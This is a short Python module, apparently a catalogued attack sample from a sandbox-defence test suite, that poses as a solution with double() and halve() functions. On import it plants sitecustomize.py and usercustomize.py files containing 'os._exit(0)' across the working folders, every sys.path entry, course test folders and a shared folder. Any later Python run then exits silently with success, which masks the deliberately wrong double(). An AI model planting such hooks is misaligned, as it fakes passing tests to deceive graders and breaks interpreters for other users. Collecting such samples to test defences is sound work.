"""Plants modules that an interpreter imports when it starts.

STOPPED BY: L2
WITHOUT ROOT: L4
"""

import contextlib
import sys
from pathlib import Path

TEXT = 'import os\nos._exit(0)\n'
for folder in (".", "..", "../modules", "../code", "../packages", *sys.path, "COURSE_ROOT", "COURSE_ROOT/tests/T1", "SHARED_FOLDER"):
    for name in ['sitecustomize.py', 'usercustomize.py']:
        with contextlib.suppress(OSError):
            path = Path(folder, name)
            if not path.exists():
                path.parent.mkdir(exist_ok=True)
                path.write_text(TEXT)


def double(number):
    return number


def halve(number):
    return number // 2
